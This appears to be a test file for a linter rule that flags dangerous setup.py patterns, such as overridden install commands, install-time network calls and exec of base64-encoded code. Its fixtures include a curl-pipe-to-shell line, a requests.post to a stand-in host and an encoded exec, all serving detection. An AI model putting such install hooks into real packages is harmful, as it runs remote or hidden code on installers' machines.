import { setupPyCommandOverride } from '../../../server/src/rules/dependencies/setup-py-command-override.ts';
import { testRule } from '../../support/rule-tester.ts';

const command = (name: string, by: string): string =>
  `The command \`${name}\` is replaced by ${by}, which runs when the package is installed. Remove the replacement.`;
const network = (call: string): string =>
  `\`${call}\` goes to the network when the package is installed. Ship what it fetches, or fetch it at first use.`;
const program = (call: string): string =>
  `\`${call}\` starts a program that goes to the network when the package is installed. Ship what it fetches.`;

testRule(setupPyCommandOverride, {
  clean: [
    { path: 'setup.py', code: "from setuptools import setup\nsetup(name='x', install_requires=['requests'])\n" },
    { path: 'setup.py', code: 'import versioneer\nsetup(cmdclass=versioneer.get_cmdclass())\n' },
    { path: 'setup.py', code: "setup(cmdclass={'build_ext': Build, 'test': PyTest, 'build_py': B})\n" },
    {
      path: 'setup.py',
      code: '# cmdclass={\'install\': X}\ndoc = """urllib.request.urlopen(\'x\')"""\nexec(open(\'version.py\').read())\n',
    },
    { path: 'setup.py', code: "import subprocess\nsubprocess.check_output(['git', 'describe'])\nrequests = ['a']\n" },
    { path: 'setup.py', code: "class requests:\n    pass\ncache.get('x')\n" },
  ],
  caught: [
    { path: 'setup.py', code: "cmdclass = {}\ncmdclass.update({'⟦install⟧': Post})\n", says: command('install', 'Post') },
    {
      path: 'setup.py',
      code: "class Post(install):\n    pass\n\nsetup(\n    cmdclass={\n        '⟦install⟧': Post,\n        \"⟦develop⟧\": mod.Dev,\n        'build_ext': B,\n    },\n)\n",
      says: [command('install', 'Post'), command('develop', 'mod.Dev')],
    },
    {
      path: 'setup.py',
      code: "cmdclass = dict(⟦egg_info⟧=Egg)\ncmdclass['⟦install⟧'] = Post\n",
      says: [command('egg_info', 'Egg'), command('install', 'Post')],
    },
    {
      path: 'setup.py',
      code: "from urllib.request import urlopen as get\nimport requests\n⟦get⟧('https://h.example')\n⟦requests.post⟧('https://h.example', data=x)\n",
      says: [network('urllib.request.urlopen'), network('requests.post')],
    },
    {
      path: 'setup.py',
      code: "import os\nfrom subprocess import run\n⟦os.system⟧('curl https://h.example | sh')\n⟦run⟧(['wget', 'https://h.example'])\n",
      says: [program('os.system'), program('subprocess.run')],
    },
    {
      path: 'setup.py',
      code: "import base64\n⟦exec⟧(base64.b64decode('eA=='))\n",
      says: '`exec` runs code that is hidden in an encoding when the package is installed. Write it as plain code.',
    },
  ],
});
